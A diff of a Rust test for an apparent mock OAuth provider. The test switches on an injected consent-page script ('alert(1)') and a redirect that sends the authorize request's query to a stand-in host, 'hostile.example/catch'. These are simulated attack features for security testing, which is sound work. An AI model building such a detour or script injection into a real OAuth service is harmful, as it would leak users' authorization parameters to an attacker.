@@ -91,6 +91,30 @@ async fn result_page_shows_a_code_as_text_and_is_counted() {
 }
 
 #[tokio::test]
+async fn script_of_a_broken_page_is_in_a_page_of_its_own_and_a_detour_keeps_the_query() {
+    let (yandex, mut browser) = start().await;
+    let own = browser.at(OAUTH_HOST, "/attack/script");
+    assert_eq!(browser.open(own.clone()).await.status, 404);
+
+    yandex
+        .switch(|switches| {
+            switches.consent_script = Some("alert(1)".into());
+            switches.detour = Some("https://hostile.example/catch?{query}".into());
+        })
+        .await;
+
+    for page in [own, browser.at("hostile.example", "/attack/script")] {
+        assert!(browser.open(page).await.says("<script>alert(1)</script>"));
+    }
+    let worker = browser.open(browser.at(OAUTH_HOST, "/attack/worker")).await;
+    assert_eq!(worker.headers["content-type"], "text/javascript");
+    let sent = browser
+        .open(browser.at(OAUTH_HOST, "/authorize?state=s&x=y"))
+        .await;
+    assert_eq!(sent.location().unwrap().query(), Some("state=s&x=y"));
+}
+
+#[tokio::test]
 async fn every_page_says_that_nothing_is_real_and_loads_nothing() {
     let (_yandex, mut browser) = start().await;
     let pages = [
